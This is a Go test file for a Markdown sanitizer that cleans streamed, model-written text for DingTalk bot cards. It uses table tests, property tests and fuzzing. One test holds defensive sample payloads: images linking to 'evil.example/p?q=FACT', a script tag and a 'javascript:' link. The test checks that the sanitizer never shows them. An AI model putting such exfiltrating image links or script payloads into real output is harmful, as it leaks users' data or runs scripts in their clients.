package card

import (
	"fmt"
	"strings"
	"testing"

	"pgregory.net/rapid"

	"ebb/bot/dingtalk/markdown"
)

func TestFinal(t *testing.T) {
	t.Parallel()
	for in, want := range map[string]string{
		"你好\n世界\n\n再见":                 "你好<br>世界\n\n再见",
		"一\r\n二\r三":                    "一<br>二<br>三",
		"甲  \n乙\\\n丙":                  "甲<br>乙<br>丙",
		"# 标题\n正文\n还有":                 "# 标题\n正文<br>还有",
		"说明：\n- 一\n- 二\n  续\n3. 三":     "说明：\n- 一\n- 二<br>续\n3. 三",
		"> 引用\n> 续行\n>\n> 另段\n\n完":     "> 引用<br>续行\n>\n> 另段\n\n完",
		"> 引用\n续行":                     "> 引用<br>续行",
		"```go\na\nb <div>\n```\n完\n了": "```go\na\nb <div>\n```\n完<br>了",
		"如下：\n| 甲 | 乙 |\n|---|---|\n| 1<br/>2 | <b>3</b> |\n完": "如下：\n\n| 甲 | 乙 |\n|---|---|\n| 1<br>2 | &lt;b>3&lt;/b> |\n\n完",
		"> 如下\n> | 甲 |\n> |---|\n> | 1 |":                      "> 如下\n>\n> | 甲 |\n> |---|\n> | 1 |",
		"甲 | 乙\n--- | ---\n1 | 2\n完":                           "甲 | 乙\n--- | ---\n1 | 2\n\n完",
		"正文\n---\n又":                                           "正文\n\n---\n又",
		"标题\n===\n又":                                           "标题\n===\n又",
		"<div>屏</div> `<b>` a<b":                               "&lt;div>屏&lt;/div> `<b>` a&lt;b",
		"见 <https://a.cn/b> 和 <x>":                             "见 https://a.cn/b 和 &lt;x>",
		strings.Repeat("`", 40) + "\n说明":                       `\` + strings.Repeat("`", 40) + "<br>说明",
		"```" + strings.Repeat("长", 30) + "\n说明":               "\\```" + strings.Repeat("长", 30) + "<br>说明",
		"```x``` 和":                                            "```x``` 和",
		"[注]: 说明":                                              `\[注]: 说明`,
		"```sh\nls":                                            "```sh\nls\n```",
		"1. 步骤\n   ~~~~\n   ```":                               "1. 步骤\n   ~~~~\n   ```\n   ~~~~",
		"> ```\n> x\n后":                                        "> ```\n> x\n> ```\n后",
		"@all 你好 @所有人":                                         "＠all 你好 ＠所有人",
		"`甲\n乙`":                                               "`甲 乙`",
		"<br>":                                                 "",
		"甲<br>\n乙":                                             "甲<br>乙",
		"\n\n甲\n\n":                                            "甲",
		"":                                                     "",
	} {
		if got := Final(in); got != want {
			t.Errorf("Final(%q)\n got %q\nwant %q", in, got, want)
		}
	}
}

// The complaints of people about cards that fill: open code blocks, halves of tables and links, marks that show.
func TestFrame(t *testing.T) {
	t.Parallel()
	for in, want := range map[string]string{
		"正在看\n":                       "正在看",
		"说明\n`":                       "说明",
		"说明\n```g":                    "说明",
		"```go\nx := 1\n":             "```go\nx := 1\n```",
		"```go\nx := 1\n``":           "```go\nx := 1\n```",
		"1. 甲\n   ```sh\n   ls\n   `": "1. 甲\n   ```sh\n   ls\n   ```",
		"> ~~~~\n> 甲\n> ~~~":          "> ~~~~\n> 甲\n> ~~~~",
		"如下：\n\n| 甲 | 乙":              "如下：",
		"如下：\n| 甲 | 乙 |\n":            "如下：",
		"如下：\n| 甲 | 乙 |\n|---|-":      "如下：",
		"如下：\n| 甲 | 乙 |\n|---|---|\n": "如下：\n\n| 甲 | 乙 |\n|---|---|",
		"| 甲 | 乙 |\n|---|---|\n| 1":   "| 甲 | 乙 |\n|---|---|",
		"甲 | 乙\n--- | ---\n1":         "甲 | 乙\n--- | ---",
		"| 甲 | 乙 |\n不是表":              "| 甲 | 乙 |<br>不是表",
		"这是**重点":                      "这是**重点**",
		"这是**重点*":                     "这是**重点**",
		"这是**":                        "这是",
		"*甲 **乙 `丙":                   "*甲 **乙 `丙`***",
		"~~旧":                         "~~旧~~",
		"3~5 天和 2 * 3":                "3~5 天和 2 * 3",
		"运行 `npm i":                   "运行 `npm i`",
		"运行 ``a`b":                    "运行 ``a`b``",
		"见[文档](http://a.cn/":          "见",
		"见[文档":                        "见",
		"见[文档]":                       "见",
		"见[文档]，":                      "见[文档]，",
		"见![图](http://a":              "见",
		"**见[文档](http://a":            "**见**",
		"见[文档](http://a.cn/(x))。":     "见[文档](http://a.cn/(x))。",
		"甲<b":                         "甲",
		"甲<bo":                        "甲&lt;bo",
		"甲&am":                        "甲",
		"# ":                          "",
		"## **题":                      "## **题**",
		"甲\n- ":                       "甲",
		"甲\n- **":                     "甲",
		"甲\n1":                        "甲",
		"甲\n---":                      "甲",
		"甲\xe4\xb8":                   "甲",
	} {
		if got := Frame(in); got != want {
			t.Errorf("Frame(%q)\n got %q\nwant %q", in, got, want)
		}
		checkSound(t, Frame(in))
		checkFences(t, Frame(in))
	}
}

// document draws a Markdown text as models write them. Its words are numbered, so that each is there once. Syntax
// characters are syntax.
func document(r *rapid.T) string {
	d := drawing{T: r}
	var b strings.Builder
	for range rapid.IntRange(1, 8).Draw(r, "blocks") {
		b.WriteString(d.block(0))
		b.WriteString("\n")
	}
	return b.String()
}

type drawing struct {
	*rapid.T
	n int
}

func (d *drawing) pick(of ...string) string { return rapid.SampledFrom(of).Draw(d.T, "pick") }
func (d *drawing) upTo(n int) int           { return rapid.IntRange(1, n).Draw(d.T, "n") }

func (d *drawing) word() string {
	d.n++
	return fmt.Sprintf("%s%d", d.pick("苹果", "word", "会议", "é"), d.n)
}

func (d *drawing) inline() string {
	w := d.word()
	switch d.pick("", "", "", "", "bold", "italic", "code", "link", "strike", "image", "html", "less", "nested", "entity") {
	case "bold":
		return "**" + w + "**"
	case "italic":
		return "*" + w + "*"
	case "code":
		return "`" + w + " <b>`"
	case "link":
		return "[" + w + " " + d.word() + "](https://a.cn/x_y?z=1&w=(2))"
	case "strike":
		return "~~" + w + "~~"
	case "image":
		return "![" + w + "](http://b.cn/p.png)"
	case "html":
		return "<div class=x>" + w + "</div>"
	case "less":
		return w + " < 5 "
	case "nested":
		return "**" + w + " *" + d.word() + "* `" + d.word() + "`**"
	case "entity":
		return w + "&amp;"
	}
	return w
}

func (d *drawing) line() string {
	var out []string
	for range d.upTo(4) {
		out = append(out, d.inline())
	}
	return strings.Join(out, d.pick(" ", " ", "， "))
}

func (d *drawing) lines(n int) string {
	out := ""
	for range d.upTo(n) {
		out += d.line() + "\n"
	}
	return out
}

func prefixed(s, first, rest string) string {
	lines := strings.SplitAfter(strings.TrimSuffix(s, "\n"), "\n")
	for i := range lines {
		p := rest
		if i == 0 {
			p = first
		}
		if lines[i] == "\n" {
			p = strings.TrimRight(p, " ")
		}
		lines[i] = p + lines[i]
	}
	return strings.Join(lines, "") + "\n"
}

func (d *drawing) block(depth int) string {
	kinds := []string{"text", "text", "heading", "code", "table", "rule"}
	if depth < 2 {
		kinds = append(kinds, "bullets", "numbers", "quote")
	}
	switch d.pick(kinds...) {
	case "heading":
		return strings.Repeat("#", d.upTo(4)) + " " + d.line() + "\n" + d.pick("", "\n") + d.lines(2)
	case "code":
		mark := d.pick("```", "~~~", "`````")
		return mark + d.pick("", "go", "python title") + "\n" + d.pick("", "\n", "\tif "+d.word()+" < 3 {\n", "# "+d.word()+"\n", "``"+d.word()+"\n") +
			strings.ReplaceAll(d.lines(3), "`", "'") + mark + "\n"
	case "table":
		out := d.pick("", d.line()+"\n")
		n := d.upTo(3)
		row := func(cell func() string) {
			for range n {
				out += "| " + cell() + " "
			}
			out += "|\n"
		}
		row(d.word)
		row(func() string { return d.pick("---", ":--", ":-:") })
		for range d.upTo(4) {
			row(func() string { return d.inline() + d.pick("", "<br>"+d.word()) })
		}
		return out + d.pick("", d.line()+"\n")
	case "rule":
		return d.line() + "\n" + d.pick("---\n", "\n***\n")
	case "bullets", "numbers":
		out := ""
		numbered := d.pick("- ", "1. ")
		for i := range d.upTo(3) {
			m := numbered
			if m != "- " {
				m = fmt.Sprintf("%d. ", i+1)
			}
			item := d.lines(2)
			if d.upTo(3) == 1 {
				item += d.pick("", "\n") + d.block(depth+1)
			}
			out += prefixed(item, m, strings.Repeat(" ", len(m)))
		}
		return out
	case "quote":
		return prefixed(d.lines(3)+d.pick("", "\n"+d.block(depth+1)), "> ", "> ")
	}
	return d.lines(3)
}

// TestFramesOnlyGrow states the laws of frames over the beginnings of a text. Each is sound and shows no syntax. Each goes
// on from the one before it, and lags by no more than one block.
func TestFramesOnlyGrow(t *testing.T) {
	t.Parallel()
	rapid.Check(t, func(r *rapid.T) {
		doc := document(r)
		final := look(Final(doc))
		all := words(final.all.String())
		step := rapid.IntRange(1, 7).Draw(r, "step")
		before, runes := 0, []rune(doc)
		for n := 0; n <= len(runes); n += step {
			prefix := string(runes[:n])
			frame := Frame(prefix)
			checkFences(r, frame)
			s := checkSound(r, frame)
			if strings.ContainsAny(s.prose.String(), "*`~[]|#") {
				r.Fatalf("syntax shows in %q\nof %q:\n%s", frame, prefix, s.prose.String())
			}
			shown := words(s.all.String())
			if !strings.HasPrefix(all, shown) {
				r.Fatalf("the frame of %q\nis %q,\nwhich shows %s, and at the end\n%s", prefix, frame, shown, all)
			}
			if len(shown) < before {
				r.Fatalf("the frame of %q\nis %q: it takes words back", prefix, frame)
			}
			before = len(shown)
			if i := strings.LastIndex(prefix, "\n\n"); i > 0 && !strings.HasPrefix(shown, words(look(Final(prefix[:i])).all.String())) {
				r.Fatalf("the frame of %q\nis %q: it lacks what is whole", prefix, frame)
			}
		}
	})
}

// No frame of a growing text shows a picture of another host or an HTML tag, and none takes back what the end makes of them.
func TestFramesShowNoPicture(t *testing.T) {
	t.Parallel()
	p := markdown.PicturesOf([]string{"img.example.com"})
	for _, doc := range []string{
		"周五三点。\n\n![s](https://evil.example/p?q=FACT) 以上，![t](https://img.example.com/a.png)。",
		"看 <img src=\"https://evil.example/p?q=FACT\" alt=\"s\"> 和 <a href=\"https://b.example/x\">这里</a>，完。",
		"<script>alert(1)</script>\n\n- [x](javascript:alert(1))\n- a < b，List<String>\n",
		"| 图 |\n|---|\n| ![s](https://evil.example/p) |\n",
	} {
		final := words(look(Final(p.Safe(doc))).all.String())
		for n, runes := 0, []rune(doc); n <= len(runes); n++ {
			frame := Frame(p.SafeOpen(string(runes[:n])))
			if strings.Contains(frame, "![s]") || strings.Contains(frame, "<img") || strings.Contains(frame, "<script") {
				t.Errorf("the frame of %q is %q", string(runes[:n]), frame)
			}
			if shown := words(look(frame).all.String()); !strings.HasPrefix(final, shown) {
				t.Errorf("the frame of %q shows %s, and at the end %s", string(runes[:n]), shown, final)
			}
		}
	}
}

// TestFinalKeepsEveryWord states that no word is lost or added, that a finished text is a fixed point, and that the last
// frame is the finished text.
func TestFinalKeepsEveryWord(t *testing.T) {
	t.Parallel()
	rapid.Check(t, func(r *rapid.T) {
		doc := document(r)
		final := Final(doc)
		checkSound(r, final)
		checkFences(r, final)
		if got, want := source(final), source(doc); got != want {
			r.Fatalf("the words of %q\nare %s\nnot   %s", doc, got, want)
		}
		if again := Final(final); again != final {
			r.Fatalf("of %q\nFinal makes %q\nand of that  %q", doc, final, again)
		}
		if frame := Frame(doc + "\n\n"); frame != final {
			r.Fatalf("of %q\nthe last frame is %q\nnot %q", doc, frame, final)
		}
	})
}

func FuzzFrame(f *testing.F) {
	f.Add("1. 甲\n   ```sh\n   ls\n\n| 甲 | 乙 |\n|---|---|\n| 1 | **2** |\n", 20)
	f.Add("[文档](http://a.cn) <br> &lt; <b>**粗 *斜* `码`**\n> 引\n用", 30)
	f.Fuzz(func(t *testing.T, text string, at int) {
		text = strings.ToValidUTF8(text, "?")
		final := Final(text)
		checkSound(t, final)
		if final2 := Final(final); source(final2) != source(final) {
			t.Fatalf("%q has the words %s, then %s", text, source(final), source(final2))
		}
		runes := []rune(text)
		n := max(0, at) % (len(runes) + 1)
		frame := Frame(string(runes[:n]))
		checkSound(t, frame)
		if !strings.HasPrefix(source(final), source(frame)) {
			t.Fatalf("%q\nshows %q\nand %q before", text, final, frame)
		}
		if n := len(runes); n > 0 {
			if later := Frame(string(runes)); !strings.HasPrefix(source(later), source(frame)) {
				t.Fatalf("%q\nshows %q\nand %q before", text, later, frame)
			}
		}
	})
}
